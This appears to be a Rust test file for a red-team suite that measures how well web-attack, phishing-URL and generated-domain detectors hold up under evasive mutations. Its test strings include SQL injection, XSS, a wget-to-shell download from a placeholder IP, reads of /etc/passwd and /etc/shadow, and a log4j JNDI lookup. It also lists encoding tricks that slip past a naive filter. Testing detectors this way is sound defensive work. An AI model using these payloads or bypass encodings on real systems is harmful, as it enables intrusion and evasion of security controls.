//! Mutations keep the meaning, seeds give the same again, runs find what is there to be found.

use features::{Extractor, Subject};
use pack::manifest::Task;
use proptest::prelude::*;

use crate::mutation::{Step, chain, table};
use crate::{Chance, Judge, Run, Sample, Samples, Suite};

const TASKS: [Task; 3] = [Task::WebAttack, Task::PhishingUrl, Task::DgaDomain];

/// Attacks of each language, made up for this test, and harmless lines.
const ATTACKS: [&str; 14] = [
    "-1' union all select user, password from users where name = 'admin' -- -",
    "1 or 1=1",
    "x') or (7=7)#",
    "5 and sleep(4)=0",
    "<img src=x onerror=alert(1)>",
    "\"><script>confirm('a')</script>",
    "<a href=javascript:prompt(2)>x</a>",
    ";cat /etc/passwd",
    "| wget http://192.0.2.7/a | sh",
    "../../../etc/shadow",
    "${jndi:ldap://192.0.2.1/a}",
    "{{7*7}}",
    "O'Brien & Söhne, 3/4 \u{ff21}",
    "a",
];
const URLS: [&str; 5] = [
    "http://paypal-check.example.com/account/sign-in?id=7",
    "secure.login.example.co.uk/a/b.html",
    "https://192.0.2.9/x",
    "https://user-pages.github.io/office365/",
    "http://kafe.example.org",
];
const NAMES: [&str; 5] = [
    "xkqzjvwpqhtr.biz",
    "a.very-long-label-of-a-generator.co.uk",
    "q1.net",
    "gardenpath.org",
    "mail.silverriver.com",
];

fn sample(task: Task, text: &str, malicious: bool) -> Sample {
    let key = match task {
        Task::PhishingUrl => "url",
        Task::DgaDomain => "domain",
        Task::WebAttack | Task::Beacon | Task::DnsTunnel => "payload",
    };
    let line = serde_json::json!({ key: text }).to_string();
    let all = Sample::read(line.as_bytes(), malicious).unwrap();
    all.into_iter().next().unwrap()
}

fn corpus(task: Task) -> Vec<Sample> {
    let words: Vec<String> = match task {
        Task::DgaDomain => crate::words::WORDS
            .iter()
            .map(|word| format!("{word}.com"))
            .collect(),
        Task::PhishingUrl => crate::words::WORDS
            .iter()
            .map(|word| format!("https://{word}.com/{word}/a"))
            .collect(),
        Task::WebAttack | Task::Beacon | Task::DnsTunnel => vec!["some words".to_owned()],
    };
    words.iter().map(|word| sample(task, word, false)).collect()
}

fn examples(task: Task) -> &'static [&'static str] {
    match task {
        Task::PhishingUrl => &URLS,
        Task::DgaDomain => &NAMES,
        Task::WebAttack | Task::Beacon | Task::DnsTunnel => &ATTACKS,
    }
}

#[test]
fn every_mutation_changes_something_and_keeps_what_it_means() {
    for task in TASKS {
        let corpus = corpus(task);
        for mutation in table(task).iter().copied() {
            let mut applied = 0;
            // much padding takes long, and three texts show as much
            let large = ["64k", "128k"]
                .iter()
                .any(|size| mutation.name().ends_with(size));
            let texts = examples(task)
                .iter()
                .take(if large { 3 } else { usize::MAX });
            for text in texts {
                for (malicious, seed) in [(true, 1), (false, 2)] {
                    let before = sample(task, text, malicious);
                    let moved = crate::mutation::find(task, "place_form");
                    let moved =
                        moved.and_then(|to| Step { mutation: to, seed }.apply(&before, &[]));
                    for before in std::iter::once(before).chain(moved) {
                        let step = Step { mutation, seed };
                        applied += usize::from(changes(&step, &before, &corpus));
                    }
                }
            }
            assert!(applied > 0, "{} applies to nothing", mutation.name());
        }
        let mut names: Vec<_> = table(task).iter().map(|one| one.name()).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), table(task).len(), "names are unique");
    }
}

/// Whether a step applies; if it does, all that must hold of it does.
fn changes(step: &Step, before: &Sample, corpus: &[Sample]) -> bool {
    let Some(after) = step.apply(before, corpus) else {
        return false;
    };
    let log = step.log();
    assert!(after != *before, "{log} changed nothing of {before:?}");
    assert!(
        step.mutation.same(before, &after),
        "{log}: {before:?}: {after:?}"
    );
    assert!(after.show(|_| ()).is_some() && after.line().is_some());
    assert_eq!(step.apply(before, corpus), Some(after), "{log}");
    true
}

#[test]
fn another_meaning_is_not_the_same() {
    for mutation in table(Task::WebAttack).iter().copied() {
        for text in ATTACKS {
            let before = sample(Task::WebAttack, text, true);
            let Some(after) = (Step { mutation, seed: 5 }).apply(&before, &[]) else {
                continue;
            };
            let Sample::Web(mut web) = after else {
                panic!("{}", mutation.name());
            };
            web.text = web
                .text
                .iter()
                .map(|byte| if *byte == b'e' { b'i' } else { *byte })
                .collect();
            web.text.extend(b"7zz");
            // padding may stand there, so what it surrounds is broken instead
            web.text = web
                .text
                .iter()
                .map(|byte| if b"a1/7".contains(byte) { b'Z' } else { *byte })
                .collect();
            let name = mutation.name();
            assert!(!mutation.same(&before, &Sample::Web(web)), "{name}: {text}");
        }
    }
    let (before, after) = (
        sample(Task::PhishingUrl, URLS[0], true),
        sample(Task::PhishingUrl, URLS[1], true),
    );
    for mutation in table(Task::PhishingUrl) {
        assert!(!mutation.same(&before, &after), "{}", mutation.name());
    }
    let illegal = Sample::Domain("-x..com".to_owned());
    for mutation in table(Task::DgaDomain) {
        assert!(!mutation.same(&illegal, &illegal), "{}", mutation.name());
    }
}

/// What a mutation makes of a text, with the first seed for which it does.
fn made(name: &str, text: &str) -> String {
    let mutation = crate::mutation::find(Task::WebAttack, name).unwrap();
    let before = sample(Task::WebAttack, text, true);
    let after = (0..50)
        .find_map(|seed| Step { mutation, seed }.apply(&before, &[]))
        .unwrap();
    let Sample::Web(web) = after else {
        panic!("{name}")
    };
    String::from_utf8_lossy(&web.wire().unwrap().target).into_owned()
}

#[test]
fn what_is_made_is_what_applications_undo() {
    let cases = [
        (
            "space_comment",
            "1 union select 2",
            "/?q=1%2F%2A%2A%2Funion%2F%2A%2A%2Fselect%2F%2A%2A%2F2",
        ),
        ("space_a0", "1 or 2", "/?q=1%A0or%A02"),
        ("space_plus", "1 or 2", "/?q=1+or+2"),
        ("url_encode_1", "a'b", "/?q=%61%27%62"),
        ("url_encode_2", "a'b", "/?q=%61%25%32%37%62"),
        ("percent_u", "a'b", "/?q=a%u0027b"),
        ("entity_hex", "<b", "/?q=%26%23x3c%3Bb"),
        ("homoglyph", "a'b", "/?q=a%CA%BCb"),
        ("overlong_utf8", "a'b", "/?q=a%C0%A7b"),
        ("base64", "<b>", "/?q=PGI%2B"),
        (
            "hex_sql",
            "1 or name='root'",
            "/?q=1%20or%20name%3D0x726f6f74",
        ),
        (
            "escape_script",
            "<svg onload=alert(1)>",
            "/?q=%3Csvg%20onload%3D%5Cu0061lert%281%29%3E",
        ),
        (
            "space_markup_slash",
            "<svg onload=alert(1)>",
            "/?q=%3Csvg%2Fonload%3Dalert%281%29%3E",
        ),
    ];
    for (name, text, target) in cases {
        assert_eq!(made(name, text), target, "{name}");
    }
}

#[test]
fn a_request_keeps_what_is_around_the_value() {
    let line = r#"{"method": "POST", "uri": "/a?x=1", "headers": {"Host": "a.example", "Cookie": "s=2; t=3", "Content-Type": "application/json"}, "body": "{\"id\": 7, \"in\": [{\"text\": \"1 or 1=1\"}]}"}"#;
    let all = Sample::read(line.as_bytes(), true).unwrap();
    let texts: Vec<String> = all
        .iter()
        .map(|sample| match sample {
            Sample::Web(web) => String::from_utf8_lossy(&web.text).into_owned(),
            Sample::Url(_) | Sample::Domain(_) => panic!("{sample:?}"),
        })
        .collect();
    assert_eq!(texts, ["/a", "1", "s=2; t=3", "a.example", "1 or 1=1"]);
    for sample in &all {
        let Sample::Web(web) = sample else {
            panic!("{sample:?}")
        };
        assert!(web.reads_back(), "{web:?}");
    }
    let mutation = crate::mutation::find(Task::WebAttack, "url_encode_1").unwrap();
    let after = Step { mutation, seed: 1 }.apply(&all[4], &[]).unwrap();
    let body = after.line().unwrap()["body"].as_str().unwrap().to_owned();
    assert!(
        body.contains("\"id\":7") && body.contains("\\u0031\\u0020\\u006f"),
        "{body}"
    );
}

proptest! {
    #[test]
    fn any_chain_on_any_value_keeps_its_meaning(
        task in prop::sample::select(TASKS.to_vec()),
        text in "(' |1=1|or |union |select |<b |<img |alert\\(|cat |\\.\\./|\\$\\{jndi:|[a-zA-Z0-9 '\"<>=/&;%+#ä\u{ff07}\u{0}-]){1,12}",
        name in "[a-z0-9]{1,20}(-[a-z]{1,4})?\\.(com|co\\.uk|github\\.io)",
        seed in any::<u64>(),
        malicious in any::<bool>(),
    ) {
        let mut chance = Chance::new(seed);
        let steps: Vec<Step> = (0..4).map(|_| {
            let mutation = *chance.pick(table(task)).unwrap();
            Step { mutation, seed: chance.next() }
        }).collect();
        let slash = if seed % 4 == 0 { "/" } else { "" };
        let text = if task == Task::WebAttack { format!("{slash}{text}") } else { name };
        let before = sample(task, &text, malicious);
        let corpus = corpus(task);
        let one = chain(&before, &steps, &corpus);
        let names: Vec<_> = steps.iter().map(Step::log).collect();
        prop_assert_eq!(one.invalid, 0, "{:?}: {:?}", names, one.sample);
        let other = chain(&before, &steps, &corpus);
        prop_assert_eq!(one.sample, other.sample);
    }
}

/// Looks for a word, decoded once.
struct Naive(&'static str);

impl Judge for Naive {
    fn score(&mut self, subject: &Subject<'_>) -> Option<f32> {
        let Subject::Request(request) = subject else {
            return None;
        };
        let read = crate::web::unescaped(request.target);
        let found = String::from_utf8_lossy(&read).contains(self.0);
        // longer is a little more suspicious, so that a search has a slope
        let length = u16::try_from(read.len().min(4000)).unwrap();
        Some(if found {
            0.9
        } else {
            f32::from(length) / 10_000.0
        })
    }

    fn parts(&mut self, _: &Subject<'_>) -> Vec<(String, f32)> {
        vec![("sql".to_owned(), 1.0)]
    }

    fn extractor(&self) -> &'static dyn Extractor {
        features::find("http-field@1").unwrap()
    }
}

const SUITE: &str = r#"
schema = "https://shieldwall.dev/redteam-suite/v1"
name = "small"
task = "web-attack"
seed = 11
samples = "small.jsonl"
fpr = 0.001
mutations = ["case_random", "url_encode_5", "base64", "overlong_utf8", "space_comment", "place_json", "pad_before_700"]
held_out = ["percent_u"]
chains = { each = 4, depth = [2, 4] }
search = { samples_max = 4, budgets = [5, 50], children = 2, without = ["place_json"] }
guided = { samples_max = 4, depth = 2 }
"#;

#[test]
fn a_run_measures_what_a_naive_judge_misses() {
    let suite = Suite::read(SUITE).unwrap();
    let line =
        |text: &str, label: u8| serde_json::json!({"payload": text, "label": label}).to_string();
    let lines = [
        line("1' union select 1 -- -", 1),
        line("2' union select 2 -- -", 1),
        line("1' and sleep(4)=0", 1),
        line("the western union office", 0),
        line("a cup of tea", 0),
    ]
    .join("\n");
    let mut judge = Naive("union");
    let samples = Samples::read(lines.as_bytes(), (10, 10), suite.seed, &mut judge).unwrap();
    let run = Run {
        suite: &suite,
        samples: &samples,
        threshold: 0.5,
        payloads: false,
    };
    let go = || run.run(&mut Naive("union"), &mut [], &mut |_| {});
    let results = go();
    let clean = results.clean.unwrap();
    assert_eq!((clean.hits, clean.of), (2, 3));
    assert_eq!(results.clean_false_alarms.unwrap().hits, 1);
    let by = |name: &str| {
        results
            .mutations
            .iter()
            .find(|row| row.mutation == name)
            .unwrap()
    };
    let twice = by("url_encode_5");
    assert_eq!(
        (twice.detected.hits, twice.clean.hits, twice.lost),
        (2, 2, 0)
    );
    let base64 = by("base64");
    assert_eq!(
        (base64.detected.hits, base64.lost, base64.false_alarms.hits),
        (0, 2, 0)
    );
    assert!((base64.loss_points() - 66.67).abs() < 0.01);
    assert!(by("percent_u").held_out);
    assert_eq!(results.robust.unwrap().hits, 0);
    assert_eq!(results.invalid, 0);
    // A search finds what a single mutation does, and the one that is missed anyway counts as found.
    let last = results.search.last().unwrap();
    assert_eq!((last.budget, last.robust.hits, last.robust.of), (50, 0, 3));
    assert_eq!(results.guided.as_ref().unwrap().robust.hits, 0);
    assert!(!results.bypasses.is_empty());
    assert!(
        results
            .bypasses
            .iter()
            .all(|one| one.line.is_none() && !one.steps.is_empty())
    );
    assert!(
        results
            .bypasses
            .iter()
            .all(|one| one.steps.iter().all(|step| !step.starts_with("percent_u")))
    );
    assert_eq!(go(), results, "the same seed gives the same");
}

#[test]
fn suites_are_refused_with_what_mends_them() {
    let refused = |from: &str, to: &str| {
        Suite::read(&SUITE.replace(from, to))
            .unwrap_err()
            .to_string()
    };
    assert!(refused("suite/v1", "suite/v9").contains("give a suite"));
    assert!(refused("\"percent_u\"", "\"percent_x\"").contains("is no mutation for web-attack"));
    assert!(refused("[5, 50]", "[50, 5]").contains("sort them"));
    assert!(refused("\"small.jsonl\"", "\"../x\"").contains("in the suite's own folder"));
    assert!(refused("each = 4", "each = 4000").contains("chains.each is not within 0 and 1000"));
    assert!(refused("seed = 11", "sed = 11").contains("unknown field `sed`"));
    let lines = b"{\"payload\": \"a\", \"label\": 2}";
    let error = Samples::read(lines, (1, 1), 0, &mut Naive("a")).unwrap_err();
    assert_eq!(
        error.to_string(),
        "line 1: label 2: write 1 for malicious, 0 for harmless"
    );
}
